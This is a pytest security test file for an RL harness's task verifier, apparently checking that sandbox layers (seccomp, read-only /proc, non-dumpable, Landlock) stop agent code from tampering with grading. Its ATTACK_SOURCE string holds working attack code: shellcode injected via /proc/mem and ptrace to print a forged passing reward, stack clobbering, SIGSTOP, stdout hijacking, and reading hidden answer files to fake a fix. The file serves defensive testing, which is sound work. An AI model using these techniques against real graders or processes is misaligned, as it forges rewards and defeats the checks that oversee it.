"""The verifier against the code it runs on purpose (bwrap tier): the agent's calc.py, run by the
shipped `fix_calc` verifier (native and ClawGym-exported), attacks it from inside.

Each vector (ATTACK_SOURCE below) is tried on a workspace with the bug left in; the verifier must
score it 0 with status "ok", untouched. The same attacks against a verifier without its layers
(the control) forge reward 1.0 or break it, so the checks can fail. The layer matrix runs every
vector harmlessly against a small verifier with one layer at a time, in the sandbox as uid 1000
and as uid 0 and, outside it, as an unprivileged host user, and records which layer stops which
vector (docs/security.md, "The verifier and the code it runs"). Nothing here relies on Yama (the
test machines have none).
"""

from __future__ import annotations

import ctypes
import dataclasses
import functools
import json
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from harnessrl.rollout.task_sandbox import open_task_sandbox
from harnessrl.sandbox import SandboxConfig, views
from harnessrl.tasks import load_tasks
from harnessrl.tasks.clawgym import clawgym_form
from harnessrl.tasks.model import Task, Verifier
from harnessrl.tasks.suite.multistep import step_checker_source
from harnessrl.tasks.verifier import VerifierResult, run_verifier


def _landlock_abi() -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return int(libc.syscall(ctypes.c_long(444), None, ctypes.c_long(0), ctypes.c_long(1)))


LANDLOCK_ABI = _landlock_abi()
pytestmark = [
    pytest.mark.bwrap,
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="no bubblewrap: apt-get install bubblewrap"),
    pytest.mark.skipif(LANDLOCK_ABI < 1, reason="no Landlock: the step checker does not run agent code here"),
]

TASK = next(t for t in load_tasks("builtin:office") if t.family == "fix_calc")
FORMS = {"native": TASK, "clawgym": clawgym_form(TASK)}
HIDDEN = "calc.py functions give the right values"
CFG = SandboxConfig(memory_mb=512, max_procs=128)

# ATTACK_SOURCE is Python run by a child of the verifier; MODE picks one vector:
#
# - ``mem``: shellcode written through /proc/<verifier>/mem at the verifier's next instruction,
#   printing a passing score on the verifier's stdout (the reward channel) and exiting 0;
# - ``ptrace``: the same shellcode, written with PTRACE_ATTACH + PTRACE_POKEDATA;
# - ``vm_writev``: process_vm_writev of zeros over the verifier's stack (it crashes);
# - ``signal``: SIGSTOP to every verifier process (it hangs until its timeout);
# - ``pidfd``: pidfd_getfd of the verifier's stdout, then a stray ``{`` written into it;
# - ``fd``: the same through /proc/<verifier>/fd/1;
# - ``read``: the verifier's checks.json read for the hidden expected values, which the module's
#   functions then return (a lookup table: the bug stays in);
# - ``probe``: every vector tried harmlessly (the same bytes written back, signal 0, fds closed),
#   one ``ATTACK <vector> ok|<errno name>`` line each on stderr, against the direct parent.
#
# Whatever the mode, a verifier that holds scores the bug-left-in workspace 0 with status "ok"; one
# that does not either pays 1.0 (mem, ptrace, read) or fails (the others).
ATTACK_SOURCE = r'''

def _attack(mode):
    import ctypes, errno, json, os, re, signal, struct, sys, time
    libc = ctypes.CDLL(None, use_errno=True)
    names = ["python3 test_calc.py passes, test file unchanged", "calc.py functions give the right values"]
    report = []

    def say(vector, err=None):
        report.append("ATTACK %s %s" % (vector, "ok" if err is None else errno.errorcode.get(err, err)))

    def ancestors():
        pid, out = os.getpid(), []
        while True:
            try:
                with open("/proc/%d/stat" % pid) as f:
                    pid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                return out
            if pid <= 1:
                return out
            out.append(pid)

    def payload(pid):
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                cmd = f.read().replace(b"\0", b" ").decode()
        except OSError:
            return None
        if "reward.sh" in cmd:
            return b"1.0\n"
        if "verify.py" in cmd or "check.py" in cmd or "matrix_verifier" in cmd:
            return (json.dumps({n: 1.0 for n in names}) + "\n").encode()
        return None

    def shellcode(msg):  # write(1, msg, len); exit_group(0)
        code = (b"\x48\x8d\x35" + struct.pack("<i", 26) + b"\xba" + struct.pack("<I", len(msg))
                + b"\xb8\x01\x00\x00\x00\xbf\x01\x00\x00\x00\x0f\x05\xb8\xe7\x00\x00\x00\x31\xff\x0f\x05")
        return code + msg

    def where(pid):  # (sp, pc) of a process blocked in a syscall
        for _ in range(100):
            with open("/proc/%d/syscall" % pid) as f:
                fields = f.read().split()
            if len(fields) >= 9:  # else "running": not blocked in a syscall yet
                return int(fields[-2], 16), int(fields[-1], 16)
            time.sleep(0.01)
        raise OSError(errno.EAGAIN, "running")

    targets = [p for p in ancestors() if payload(p)]
    if mode == "probe":
        targets = [os.getppid()]
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_ulong, ctypes.c_ulong]
    libc.ptrace.restype = ctypes.c_long
    libc.syscall.restype = ctypes.c_long
    L = ctypes.c_long

    class Iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    for pid in targets:
        msg = payload(pid) or b"{}\n"
        if mode in ("mem", "probe"):
            try:
                sp, pc = where(pid)
                fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
                try:
                    code = shellcode(msg) if mode == "mem" else os.pread(fd, 8, pc)
                    os.pwrite(fd, code, pc)
                finally:
                    os.close(fd)
                say("mem")
                if mode == "mem":
                    break
            except OSError as e:
                say("mem", e.errno)
        if mode in ("ptrace", "probe"):
            if libc.ptrace(16, pid, 0, 0) != 0:  # PTRACE_ATTACH
                say("ptrace", ctypes.get_errno())
            else:
                os.waitpid(pid, 0x40000000)  # __WALL
                if mode == "ptrace":
                    regs = (ctypes.c_ulong * 27)()
                    libc.ptrace(12, pid, 0, ctypes.addressof(regs))  # PTRACE_GETREGS
                    code = shellcode(msg)
                    code += b"\x90" * (-len(code) % 8)
                    for i in range(0, len(code), 8):
                        word = struct.unpack("<Q", code[i:i + 8])[0]
                        libc.ptrace(5, pid, regs[16] + i, word)  # PTRACE_POKEDATA at rip
                libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
                say("ptrace")
                if mode == "ptrace":
                    break
        if mode in ("vm_writev", "probe"):
            try:
                sp = where(pid)[0]
            except OSError:
                sp = 0x10000
            size = 8 if mode == "probe" else 4096
            buf = ctypes.create_string_buffer(size)
            local, remote = Iovec(ctypes.addressof(buf), size), Iovec(sp, size)
            args = (ctypes.byref(local), L(1), ctypes.byref(remote), L(1), L(0))
            if mode == "probe" and libc.syscall(L(310), L(pid), *args) != size:  # process_vm_readv
                say("vm_readv", ctypes.get_errno())
            elif libc.syscall(L(311), L(pid), *args) != size:  # process_vm_writev
                say("vm_writev", ctypes.get_errno())
            else:
                say("vm_writev")
        if mode in ("signal", "probe"):
            try:
                os.kill(pid, 0 if mode == "probe" else signal.SIGSTOP)
                say("signal")
            except OSError as e:
                say("signal", e.errno)
        if mode in ("pidfd", "probe"):
            pidfd = libc.syscall(L(434), L(pid), L(0))  # pidfd_open
            fd = libc.syscall(L(438), L(pidfd), L(1), L(0)) if pidfd >= 0 else -1  # pidfd_getfd
            if fd < 0:
                say("pidfd_getfd", ctypes.get_errno())
            else:
                if mode == "pidfd":
                    os.write(fd, b"{")
                os.close(fd)
                say("pidfd_getfd")
        if mode in ("fd", "probe"):
            try:
                fd = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
                if mode == "fd":
                    os.write(fd, b"{")
                os.close(fd)
                say("proc_fd")
            except OSError as e:
                say("proc_fd", e.errno)
    if mode in ("read", "probe"):
        table, found = {}, None
        try:
            with open("test_calc.py") as f:
                for m in re.finditer(r"assertAlmostEqual\((\w+)\((.*)\), (.*)\)$", f.read(), re.M):
                    table[(m[1], repr(eval("[" + m[2] + "]")))] = eval(m[3])
        except OSError:
            pass
        for path in (".verifier/checks.json", "reward/checks.json"):
            try:
                with open(path) as f:
                    checks = json.load(f)
                found = None
            except OSError as e:
                found = found if found is not None else e.errno
                continue
            for c in checks:
                for name, args, want in c.get("calls", []):
                    table[(name, repr(args))] = want
            break
        say("read_checks", found)
        g = globals()
        for name in [n for n, f in g.items() if callable(f) and not n.startswith("_")]:
            g[name] = (lambda f, n: lambda *a: table.get((n, repr(list(a))), f(*a)))(g[name], name)
    sys.stderr.write("\n".join(report) + "\n")


_attack("@MODE@")
'''


def attacked(mode: str) -> str:
    """calc.py as the task gave it (the bug left in) with the attack of `mode` appended."""
    return TASK.files["calc.py"].decode() + ATTACK_SOURCE.replace("@MODE@", mode)


def verify(task: Task, tmp_path: Path, calc: str | None = None, cfg: SandboxConfig = CFG,
           timeout_s: float = 20.0) -> VerifierResult:
    """The task's real verifier on its workspace, calc.py replaced by `calc` (the agent's work)."""
    with open_task_sandbox(task, cfg) as sb:
        if calc is not None:
            (tmp_path / "calc.py").write_text(calc)
            sb.copy_in(tmp_path / "calc.py", "calc.py")
        return run_verifier(task, sb, timeout_s=timeout_s)


@pytest.mark.parametrize("form", sorted(FORMS))
def test_fix_calc_passes_with_the_fix_and_not_with_the_bug(form, tmp_path):
    task = FORMS[form]
    untouched = verify(task, tmp_path)
    assert untouched.status == "ok" and set(untouched.checks.values()) == {0.0}, untouched
    assert not task.passed(untouched.reward)
    fixed = verify(task, tmp_path, TASK.reference_solution[0].split("<<'EOF'\n", 1)[1].rsplit("EOF", 1)[0])
    assert fixed.status == "ok" and fixed.reward == 1.0 and task.passed(fixed.reward), fixed


ATTACKS = ("mem", "ptrace", "vm_writev", "signal", "pidfd", "fd", "read")


@pytest.mark.parametrize("mode", ATTACKS)
@pytest.mark.parametrize("form", sorted(FORMS))
def test_agent_code_cannot_take_over_the_shipped_verifier(form, mode, tmp_path):
    """mem: /proc/<verifier>/mem shellcode; ptrace: the same through PTRACE_POKEDATA; vm_writev:
    the verifier's stack zeroed; signal: SIGSTOP; pidfd/fd: the verifier's stdout taken; read:
    the hidden expected values read from checks.json. The verifier stays intact and pays 0."""
    task = FORMS[form]
    res = verify(task, tmp_path, attacked(mode), timeout_s=10.0)
    assert res.status == "ok", res  # not crashed, hung or fed a stray byte
    assert res.checks[HIDDEN] == 0.0 and not task.passed(res.reward), res
    if mode != "read":  # the visible tests can be looked up from test_calc.py itself: only 'read' passes them
        assert set(res.checks.values()) == {0.0}, res


def _unprotected(monkeypatch, writable_proc: bool = True) -> Task:
    """TASK with the step checker's own layers cut out (no protect_self, a plain subprocess) and,
    by default, the view's /proc writable; run it under CFG without seccomp for no layer at all."""
    src = TASK.verifier.files["verify.py"].decode()
    weak = src.replace("def main():\n    protect_self()", "def main():\n    pass").replace(
        "    ruleset = shut_out_ruleset(",
        "    return subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=timeout)\n"
        "    ruleset = shut_out_ruleset(")
    assert weak.count("subprocess.run(") == 2 and "    protect_self()" not in weak
    if writable_proc:
        monkeypatch.setattr(views, "fresh_view", functools.partial(views.fresh_view, read_only_proc=False))
    files = {**TASK.verifier.files, "verify.py": weak.encode()}
    return dataclasses.replace(TASK, verifier=dataclasses.replace(TASK.verifier, files=files))


@pytest.mark.parametrize("mode,outcome", [("mem", 1.0), ("ptrace", 1.0), ("read", 1.0),
                                          ("vm_writev", "exited 139"), ("signal", "timed out"),
                                          ("pidfd", "not a JSON object")])
def test_each_attack_beats_a_verifier_without_its_layers(mode, outcome, tmp_path, monkeypatch):
    """The control: the same attack code forges a pass (or breaks the verifier) once the layers are off."""
    task = _unprotected(monkeypatch)
    res = verify(task, tmp_path, attacked(mode), cfg=CFG.model_copy(update={"seccomp": False}), timeout_s=4.0)
    if isinstance(outcome, float):
        assert res.status == "ok" and res.reward == outcome, res
    else:
        assert res.status == "verifier_error" and outcome in res.error, res


@pytest.mark.parametrize("mode", ["mem", "ptrace"])
def test_the_sandbox_layers_alone_hold_a_dumpable_reward_sh_and_checker(mode, tmp_path, monkeypatch):
    """ClawGym form with the checker's own layers cut out: check.py and `bash reward.sh` above it
    are both dumpable; the view's read-only /proc and seccomp still keep the attack out of both."""
    task = clawgym_form(_unprotected(monkeypatch, writable_proc=False))
    res = verify(task, tmp_path, attacked(mode), timeout_s=10.0)
    assert res.status == "ok" and set(res.checks.values()) == {0.0} and not task.passed(res.reward), res


# A verifier with one layer at a time: protect_self() (dumpable) and run_shut_out (landlock) from
# the shipped step checker, beside it; it reports each vector's outcome as a check name.
MATRIX_VERIFIER = '''
import ctypes, json, os, subprocess, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import step_checker
layers = sys.argv[1:]
if "dumpable" in layers and not step_checker.protect_self():
    sys.exit("could not become non-dumpable")
cmd = [sys.executable, "calc.py"]
if "landlock" in layers:
    res = step_checker.run_shut_out(cmd, 20)
else:
    res = subprocess.run(cmd, capture_output=True, text=True, timeout=20)
got = {line.split()[1]: line.split()[2] for line in res.stderr.splitlines() if line.startswith("ATTACK ")}
got["dumpable_after"] = str(ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))  # PR_GET_DUMPABLE
print(json.dumps({k + " " + v: 1.0 for k, v in got.items()}))
'''
VECTORS = ("mem", "ptrace", "vm", "pidfd_getfd", "signal", "read_checks")
STOPS = {  # layer -> the vectors it stops alone
    "none": set(),
    "seccomp": {"ptrace", "vm", "pidfd_getfd"},
    "roproc": {"mem"},
    "dumpable": {"mem", "ptrace", "vm", "pidfd_getfd"},
    "landlock": set(VECTORS) if LANDLOCK_ABI >= 6 else set(VECTORS) - {"signal"},
}
STOPS["all"] = set().union(*STOPS.values())


def _outcomes(checks: dict[str, float]) -> dict[str, str]:
    got = dict(name.split(" ", 1) for name in checks)
    got["vm"] = got.pop("vm_readv", None) or got.pop("vm_writev")
    return got


@pytest.mark.parametrize("uid", [1000, 0])
@pytest.mark.parametrize("layer", sorted(STOPS))
def test_which_layer_stops_which_vector(layer, uid, tmp_path):
    on = set(STOPS) - {"none"} if layer == "all" else {layer}
    files = {"matrix_verifier.py": MATRIX_VERIFIER.encode(), "step_checker.py": step_checker_source(),
             "checks.json": TASK.verifier.files["checks.json"]}
    command = "python3 .verifier/matrix_verifier.py " + " ".join(sorted(on & {"dumpable", "landlock"}))
    verifier = Verifier(kind="checks", command=command, files=files, dest=".verifier", timeout_s=30.0)
    task = dataclasses.replace(TASK, verifier=verifier)
    cfg = CFG.model_copy(update={"uid": uid, "seccomp": "seccomp" in on})
    if "roproc" not in on:
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(views, "fresh_view", functools.partial(views.fresh_view, read_only_proc=False))
            res = verify(task, tmp_path, attacked("probe"), cfg=cfg)
    else:
        res = verify(task, tmp_path, attacked("probe"), cfg=cfg)
    assert res.status == "ok", res
    got = _outcomes(res.checks)
    stopped = {v for v in VECTORS if got[v] != "ok"}
    assert stopped == STOPS[layer], got
    assert got["dumpable_after"] == ("0" if "dumpable" in on else "1"), got  # it holds after the child ran
    if "roproc" in on and "dumpable" not in on and "landlock" not in on:
        assert got["mem"] == "EROFS", got  # read-only /proc alone: no write even to a dumpable verifier


NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]


def _python_for_nobody() -> str | None:
    """A python3 an unprivileged user can run (this venv's may live under a private /root)."""
    for exe in dict.fromkeys(["/usr/bin/python3", shutil.which("python3") or ""]):
        if exe and subprocess.run([*NOBODY, exe, "-c", "pass"], capture_output=True).returncode == 0:
            return exe
    return None


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None, reason="root becomes nobody here")
@pytest.mark.parametrize("layer", ["none", "roproc", "dumpable", "landlock"])
def test_the_layers_hold_for_a_non_root_host_user(layer):
    """The matrix verifier run by an unprivileged host user (uid 65534) outside harnessrl's
    sandbox: the process layers need no privilege, and a read-only /proc (an unprivileged bwrap)
    stops the memory write alone."""
    exe = _python_for_nobody()
    if exe is None:
        pytest.skip("no python3 that uid 65534 can run")
    with tempfile.TemporaryDirectory(prefix="harnessrl-nobody-") as tmp:
        ws = Path(tmp)
        (ws / ".verifier").mkdir()
        (ws / ".verifier" / "matrix_verifier.py").write_text(MATRIX_VERIFIER)
        (ws / ".verifier" / "step_checker.py").write_bytes(step_checker_source())
        (ws / ".verifier" / "checks.json").write_bytes(TASK.verifier.files["checks.json"])
        (ws / "calc.py").write_text(attacked("probe"))
        for p in [ws, *ws.rglob("*")]:
            p.chmod(0o777 if p.is_dir() else 0o666)
        argv = [exe, ".verifier/matrix_verifier.py", *({layer} & {"dumpable", "landlock"})]
        if layer == "roproc":
            argv = ["bwrap", "--unshare-all", "--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev",
                    "--bind", tmp, tmp, "--remount-ro", "/proc", "--chdir", tmp, *argv]
        out = subprocess.run([*NOBODY, *argv], cwd=tmp, capture_output=True, text=True, timeout=60)
    if layer == "roproc" and out.returncode != 0 and "bwrap" in out.stderr:
        pytest.skip(f"no unprivileged bwrap here: {out.stderr.strip()[:200]}")
    assert out.returncode == 0, out.stderr
    got = _outcomes(json.loads(out.stdout))
    assert {v for v in VECTORS if got[v] != "ok"} == STOPS[layer], got
